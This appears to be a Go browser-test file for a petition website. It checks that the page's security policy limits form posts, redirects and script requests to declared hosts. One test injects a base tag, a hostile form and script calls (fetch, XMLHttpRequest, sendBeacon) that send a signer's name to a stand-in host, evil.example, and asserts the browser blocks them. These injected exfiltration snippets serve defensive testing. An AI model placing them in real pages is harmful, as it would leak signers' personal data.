package browser

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// declared is a petition whose handler may also send signers on to a page of the organisation's on another host.
var declared = petition{
	handler: genericHandler + "origins = [\"https://danke.riverton.example\"]\n", form: usualFields + notice.lines(),
}

// The page's policy lets a post through, and the redirect that answers it, to where site.toml says that it may go
// (CASES.md RS-034) and nowhere else: in Chromium a redirect to any other place is stopped (CASES.md RS-035).
func TestPolicyLetsAnswersThrough(t *testing.T) {
	public := declared.build(t, nil)
	page := func(heading string) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = fmt.Fprint(w, ownPage(http.StatusOK, heading).body)
		})
	}
	p := newTab(t)
	for _, c := range []struct {
		name    string
		answer  reply
		arrives string // the condition for where the signer ends; empty if the browser stops it
	}{
		{"303 to the thank-you page", sendOn(http.StatusSeeOther, thanksAt), textOf("h1", "Thank you for signing")},
		{"303 to a declared host", sendOn(http.StatusSeeOther, "https://danke.riverton.example/t?a=b"), textOf("h1", "Danke")},
		{"200 and a page", ownPage(http.StatusOK, "Taken"), textOf("h1", "Taken")},
		{"303 to a page of its own", sendOn(http.StatusSeeOther, "/done"), textOf("h1", "Done")},
		{"303 to another host", sendOn(http.StatusSeeOther, "https://evil.example/t"), ""},
		{"307 to another host", sendOn(http.StatusTemporaryRedirect, "https://evil.example/t"), ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := &fake{contract: func(sent) reply { return c.answer }, site: page("Done")}
			out.answer(t, map[string]http.Handler{
				"action.riverton.example": host(public, nil), "forms.riverton.example": f,
				"danke.riverton.example": page("Danke"), "evil.example": page("Evil"),
			})
			p.again(t)
			p.open(campaignAt)
			p.fill(refusedSigner...)
			p.pressButton()
			p.took(f, 1)
			if c.arrives != "" {
				p.until(c.arrives)
				p.quiet()
				return
			}
			p.complained("Sending form data to", "forms.riverton.example/sign", "form-action")
			if asked := out.askedOf("evil.example"); len(asked) > 0 {
				t.Errorf("requests to somebody else: %q", asked)
			}
		})
	}
}

// Where a script sends the form, the policy lets scripts reach the handler, the site's own host, and nobody else; what was put into the
// page later runs, resolves and sends nothing (CASES.md RS-037).
func TestPolicyHoldsWhereAScriptSends(t *testing.T) {
	public := petition{handler: formspreeHandler, form: usualFields + notice.lines()}.build(t, nil)
	const address = "/library-sundays/"
	built := readFile(t, file(public, address))
	added := replaceOnce(t, built, "</head>", `<base href="https://evil.example/"><script>`+mischief+`</script></head>`)
	added = replaceOnce(t, added, `<main id="main"`, `<form action="https://evil.example/g" method="post"><input name="name" value="Ana"><button id="evil">Sign</button></form><main id="main"`)
	f := &fake{contract: formspree, allows: everybody}
	out.answer(t, map[string]http.Handler{
		"action.riverton.example": host(public, map[string]string{address: added}), "formspree.io": f, "evil.example": &fake{contract: formspree, allows: everybody},
	})
	p := newTab(t)
	p.open(campaignAt)
	for _, words := range [][]string{{"inline script", "script-src"}, {"evil.example/", "base-uri"}} {
		p.complained(words...)
	}
	for _, send := range []string{
		`fetch('https://evil.example/f', {method: 'POST', body: 'name=Ana'})`,
		`new Promise((yes, no) => { const r = new XMLHttpRequest(); r.onload = yes; r.onerror = no; r.open('POST', 'https://evil.example/x'); r.send('name=Ana'); })`,
		`fetch('https://copy.riverton.example/elsewhere')`,
	} {
		if got := ask[string](p, `(`+send+`).then(() => 'sent', () => 'stopped')`); got != "stopped" {
			t.Errorf("%s: %s", send, got)
		}
	}
	p.complained("evil.example/f", "connect-src")
	ask[bool](p, `navigator.sendBeacon('https://evil.example/b', 'name=Ana') ?? true`)
	p.complained("evil.example/b", "connect-src")
	ask[bool](p, `document.querySelector('#evil').click() ?? true`)
	p.complained("evil.example/g", "form-action")
	if got := ask[string](p, `location.href + ' ' + document.baseURI + ' ' + document.documentElement.dataset.mischief`); got != campaignAt+" "+campaignAt+" undefined" {
		t.Errorf("the page, its base and mischief are %q", got)
	}
	p.fill(append(refusedSigner[:3:3], goodEmail)...)
	p.pressButton()
	p.thanked()
	p.took(f, 1)
	if asked := out.askedOf("evil.example"); len(asked) > 0 {
		t.Errorf("requests to somebody else: %q", asked)
	}
}

// A form that posts does so when its scripts are blocked or fail, with the same values; one that only a script can
// send leaves its place to the handler's own page (CASES.md RS-040).
func TestFormWithoutItsScripts(t *testing.T) {
	const throws = `throw new Error("on purpose");`
	const address = "/library-sundays/"
	blocked := func(public string) map[string]string {
		page := readFile(t, file(public, address))
		return map[string]string{address: strings.ReplaceAll(page, "<script>", "<script>0;")} // not what the policy names
	}
	usual := usualFields + notice.lines()
	p := newTab(t)
	for _, c := range []struct {
		name     string
		petition petition
		layouts  map[string]string
		changed  func(public string) map[string]string
	}{
		{"generic, blocked", petition{handler: genericHandler, form: usual}, nil, blocked},
		{"generic, page.js throws", petition{handler: genericHandler, form: usual}, map[string]string{"page.js": throws}, nil},
		{"generic by script, blocked", petition{handler: genericHandler + cors, form: usual}, nil, blocked},
		{"generic by script, page.js throws", petition{handler: genericHandler + cors, form: usual}, map[string]string{"page.js": throws}, nil},
		{"generic by script, send.js throws", petition{handler: genericHandler + cors, form: usual}, map[string]string{"send.js": throws}, nil},
		{"proca, blocked", petition{handler: procaHandler, form: usual}, nil, blocked},
		{"proca, page.js throws", petition{handler: procaHandler, form: usual}, map[string]string{"page.js": throws}, nil},
		{"proca, send.js throws", petition{handler: procaHandler, form: usual}, map[string]string{"send.js": throws}, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			public := c.petition.build(t, c.layouts)
			var changed map[string]string
			if c.changed != nil {
				changed = c.changed(public)
			}
			f := &fake{contract: own(), allows: ourSite}
			out.answer(t, map[string]http.Handler{"action.riverton.example": host(public, changed), "forms.riverton.example": f})
			p.again(t)
			p.open(campaignAt)
			if strings.HasPrefix(c.name, "proca") {
				if form, link := ask[bool](p, visible(`document.querySelector('form.form')`)), ask[bool](p, visible(`document.querySelector('.hosted a')`)); form || !link {
					t.Errorf("it is %v that the form is seen, and %v that the link is", form, link)
				}
				return
			}
			p.fill(append(refusedSigner[:3:3], goodEmail)...)
			p.pressButton()
			p.thanked()
			want := sent{
				Request: "POST https://forms.riverton.example/sign", Type: urlencoded, Origin: strings.TrimSuffix(home, "/"), Referer: home,
				Values: [][2]string{
					{"page", "library-sundays"}, {"lang", "en"}, {"_next", thanksAt}, {"_error", campaignAt + "#not-sent"},
					{"consent_version", notice.version()}, {"consent_text", notice.text},
					{"name", "Siobhán O'Neil"}, {"email", "siobhan@riverton.example"}, {"postcode", "02134"}, {"phone", ""}, {"_gotcha", ""},
				},
			}
			p.took(f, 1)
			if got := f.all()[0]; fmt.Sprintf("%+v", got) != fmt.Sprintf("%+v", want) {
				t.Errorf("the handler got\n%+v, not\n%+v", got, want)
			}
		})
	}
}
